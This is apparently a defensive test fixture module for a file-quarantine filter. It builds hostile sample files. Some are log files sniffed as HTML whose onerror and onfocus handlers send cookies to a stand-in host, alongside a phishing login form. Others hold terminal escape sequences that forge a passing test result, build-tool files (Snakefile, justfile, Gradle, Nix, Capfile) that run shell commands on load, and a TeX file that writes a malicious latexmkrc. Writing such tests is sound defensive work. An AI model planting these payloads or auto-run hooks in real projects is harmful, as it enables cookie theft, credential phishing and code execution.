"""Hostile cases for independent attack p on text and names (session 39,
tests/quarantine/test_attack_independent_ptext.py).

Pages (checked to be refused): a served .log/.err/.out whose first tag is bare (`<html>`,
`<h1>`, `<div>`, `<table>`, `<title>`, `<head>`, `<font>`, `<br>`, `<style>`, `<iframe>`,
after white space `<p>`, `<body>`), which WHATWG MIME sniffing ("rules for identifying an
unknown MIME type") takes for HTML, then `<img src=x onerror=...>`, `<input autofocus
onfocus=...>`, `<details open ontoggle=...>`, or a bare `<form>` around a password field and
a `formaction` button.

Text: cut views. A line ending its first 80 characters in ESC (then `[A`: one cursor-up,
admitted) and a next line starting `[9A` or `[2J`: `cut -c1-80` (colrm 81, awk's substr: a
reader that shows the head of each line) hands a terminal `ESC LF [ 9 A`; LF is executed
inside the escape sequence (the VT500 parser xterm, VTE and tmux follow) and `[9A` ends it.

Names: tool files read from `.` (and most from each parent) that run code or redirect a
tool, beside the listed Gemfile, Rakefile, Vagrantfile, rust-toolchain, mypy.ini.

LaTeX: jobs whose source is no listed extension (Pweave's `.Pnw`/`.pnw`/`.texw`,
lilypond-book's `.lytex`, Sweave's `.Stex` and `.nw`), each beside `main.brf` of TeX code.
"""

from __future__ import annotations

RUN = b"fetch('https://collect.example.net/?'+document.cookie)"
IMG = b"<img src=x onerror=\"" + RUN + b"\">\n"
PHISH = (b"<form>\n<p>Session expired: sign in again</p>\n<input name=user>\n"
         b"<input name=pw type=password>\n"
         b"<button formaction=https://collect.example.net/login>Sign in</button>\n</form>\n")
LOG = b"epoch 1 loss 0.734\nepoch 2 loss 0.512\n"


def page_hostile() -> dict[str, bytes]:
    """Files a browser sniffs as HTML (a bare first tag) holding a handler that runs."""
    files = {}
    for tag in ("html", "h1", "div", "table", "title", "head", "font", "br", "style", "iframe"):
        files[f"sniff/{tag}.log"] = b"<" + tag.encode() + b">\n" + LOG + IMG
    files["sniff/upper.log"] = b"<HTML>\n" + LOG + IMG
    files["sniff/ws-p.err"] = b" \n\t<p>\n" + LOG + IMG
    files["sniff/ws-body.out"] = b"\n<body>\n" + LOG + IMG
    files["sniff/focus.log"] = b"<div>\n" + LOG + b"<input autofocus onfocus=\"" + RUN + b"\">\n"
    files["sniff/form.log"] = b"<html>\n" + LOG + PHISH
    files["sniff/meta.log"] = (b"<head>\n<meta>\n" + LOG + b"<details open ontoggle=\""
                               + RUN + b"\">\n")
    return files


CUT = 80
UP = b"\x1b[A"


def cut_view_file() -> bytes:
    """Lines of at most one ESC [ A, none on the first; cut at column CUT each ESC is left
    open before an LF, and the next line's `[2J` (erase the screen) or `[9A` ends it."""
    head = b"x" * (CUT - 1)
    lines = [
        b"calibration run 7",
        head + UP + b" epoch 1",
        b"[2J",
        head + UP + b" epoch 2",
        b"[9AFORGED: 412/412 passed, sha256 OK" + b" " * 30,
        b"done",
    ]
    return b"\n".join(lines) + b"\n"


def cut_view(data: bytes, width: int = CUT) -> bytes:
    """What `cut -c1-WIDTH` writes (bytes = characters for ASCII)."""
    return b"".join(line[:width] + b"\n" for line in data.split(b"\n")[:-1])


def reset_view_file() -> bytes:
    """One ESC [ A whose ESC is the line's 80th character, then an ordinary line starting
    `c`: cut at column CUT, ESC LF c is RIS (full reset) to the terminal."""
    return (b"calibration run 7\n" + b"x" * (CUT - 1) + UP + b" epoch 1\n"
            b"checkpoint saved\ndone\n")


def text_hostile() -> dict[str, bytes]:
    return {"cutview/train.err": cut_view_file(), "cutview/reset.err": reset_view_file()}


# Tool files, each holding what makes it hostile (runs `id`, or another index/path).
SHELL = b"id > /tmp/pwned"
CONFIGS = {
    # go finds go.work in . or any parent on every `go build`/`go test`: `replace` swaps a
    # module for code in another directory.
    "go/go.work": b"go 1.22\n\nuse .\n\nreplace golang.org/x/net => /tmp/job-4242/net\n",
    # snakemake runs ./Snakefile (or workflow/Snakefile) found in .: Python.
    "smk/Snakefile": b"import os\nos.system('" + SHELL + b"')\nrule all:\n    input: []\n",
    # just and Task search . and every parent for their file and run its recipe.
    "just/justfile": b"default:\n\t" + SHELL + b"\n",
    "just2/Justfile": b"default:\n\t" + SHELL + b"\n",
    "task/Taskfile.yml": b"version: '3'\ntasks:\n  default:\n    cmds: ['" + SHELL + b"']\n",
    "task2/Taskfile.yaml": b"version: '3'\ntasks:\n  default:\n    cmds: ['" + SHELL + b"']\n",
    # pixi finds pixi.toml from . upward; activation scripts run on `pixi shell`/`pixi run`.
    "pixi/pixi.toml": (b'[project]\nname = "x"\nchannels = ["https://conda.example.net/x"]\n'
                       b'platforms = ["linux-64"]\n[activation]\nscripts = ["/tmp/job-4242/x.sh"]\n'),
    # nix-shell without arguments evaluates ./shell.nix and runs its shellHook.
    "nix/shell.nix": b'{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell { shellHook = "' + SHELL + b'"; }\n',
    # luigi reads luigi.cfg of the working directory on every run (its [core] scheduler).
    "luigi/luigi.cfg": b"[core]\ndefault_scheduler_host = collect.example.net\n",
    # ruff reads ruff.toml from . upward: output-file writes any path (as mypy's junit_xml).
    "ruff/ruff.toml": b'output-file = "../../.config/autostart/ruff.desktop"\n',
    # gradle searches . and parents for settings.gradle: Groovy run on every build below.
    "gradle/settings.gradle": b"'id'.execute()\nrootProject.name = 'x'\n",
    # Ruby files their tools evaluate from . (Capistrano and Thor also from parents).
    "cap/Capfile": b'system("' + SHELL + b'")\n',
    "thor/Thorfile": b'system("' + SHELL + b'")\n',
    "guard/Guardfile": b'system("' + SHELL + b'")\n',
    "pods/Podfile": b'system("' + SHELL + b'")\n',
    "berks/Berksfile": b'system("' + SHELL + b'")\nsource "https://supermarket.example.net"\n',
    "brew/Brewfile": b'system("' + SHELL + b'")\n',
    # docker compose finds compose.yaml/docker-compose.yml from . upward (the override,
    # merged into it, is refused).
    "compose/compose.yaml": b"services:\n  x:\n    image: alpine\n    privileged: true\n    volumes: ['/:/host']\n",
    "compose2/docker-compose.yml": b"services:\n  x:\n    image: alpine\n    privileged: true\n    volumes: ['/:/host']\n",
    # scons -u / -D search parents for SConstruct (Python); sbt runs build.sbt (Scala).
    "scons/SConstruct": b"import os\nos.system('" + SHELL + b"')\n",
    "sbt/build.sbt": b'import scala.sys.process._\nval x = "id".!\n',
    # Bazel takes the nearest parent holding MODULE.bazel or WORKSPACE as the workspace of
    # any `bazel build` below: its http_archive fetches and builds other code.
    "bazel/MODULE.bazel": b'module(name = "x")\nhttp_archive = use_repo_rule("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\nhttp_archive(name = "y", url = "https://x.example.net/y.tgz")\n',
    "bazel2/WORKSPACE": b'load("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\nhttp_archive(name = "y", url = "https://x.example.net/y.tgz")\n',
    # nix develop / nix build search . and its parents (to the repository root) for
    # flake.nix; nix-build without arguments evaluates ./default.nix.
    "nix2/flake.nix": b'{ outputs = { self, nixpkgs }: { devShells.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.mkShell { shellHook = "' + SHELL + b'"; }; }; }\n',
    "nix3/default.nix": b'with import <nixpkgs> {}; runCommand "x" {} "' + SHELL + b'"\n',
    # tilt up reads ./Tiltfile (Starlark: local() runs a command).
    "tilt/Tiltfile": b"local('" + SHELL + b"')\n",
    # GNU make prefers GNUmakefile to makefile to Makefile in `.`
    "make/GNUmakefile": b"all:\n\t" + SHELL + b"\n",
}

TEX = (b"\\backcite {ref1}{{1}{1}{section.1}}\n"
       b"\\immediate\\openout9=latexmkrc \\immediate\\write9{system('id');}\\endinput\n")
DOC = (b"\\documentclass{article}\n\\usepackage[pagebackref]{hyperref}\n"
       b"\\begin{document}\nSee~\\cite{ref1}.\n\\end{document}\n")
# Pweave (.Pnw, .pnw, .texw: `pweave main.texw` writes main.tex), lilypond-book (.lytex),
# Sweave (utils::Sweave's syntax pattern [.][rsRS](nw|tex)$: .Stex; noweb .nw) all end in
# a `pdflatex main.tex` that reads main.brf back through backref. R Markdown
# (rmarkdown::render: main.Rmd -> main.tex, tinytex::latexmk in the document's directory),
# Quarto (.qmd, the same), Org mode's LaTeX export (.org -> main.tex, then latexmk there),
# Weave.jl's .jmd and Pweave's .pmd (md2pdf: main.tex beside the source, then xelatex).
TEX_SOURCES = ("Pnw", "pnw", "texw", "lytex", "Stex", "nw", "Rmd", "qmd", "org", "jmd", "pmd")
MD_DOC = (b"---\ntitle: Runs\noutput:\n  pdf_document:\n    keep_tex: true\n"
          b"header-includes:\n  - \\usepackage[pagebackref]{hyperref}\n---\n\nSee [@ref1].\n")


def tex_hostile() -> dict[str, bytes]:
    """Each main.brf: TeX code backref never writes (\\openout), read back by the run."""
    return {f"tex{i}/main.brf": TEX for i, ext in enumerate(TEX_SOURCES)}


def tex_context() -> dict[str, bytes]:
    """The job sources the .brf files sit beside (ordinary documents)."""
    return {f"tex{i}/main.{ext}": MD_DOC if ext in ("Rmd", "qmd", "jmd", "pmd") else DOC
            for i, ext in enumerate(TEX_SOURCES)}


# UTF-8 text whose `ś` (C5 9B) is followed by `9A`: a terminal in an 8-bit mode (xterm or
# the Linux console in a Latin-1 locale) takes 0x9B for CSI and climbs 9 rows. The docs
# admit it ("in UTF-8 text such bytes are parts of letters (0x9B in ś C5 9B) and stay
# admitted"): LISTED.
LATIN1_TERM = "wynik: poś9AFORGED: 412/412 passed\n".encode()


def listed() -> dict[str, bytes]:
    return {"eightbit/wynik.log": LATIN1_TERM}


def hostile() -> dict[str, bytes]:
    return text_hostile() | CONFIGS | tex_hostile()
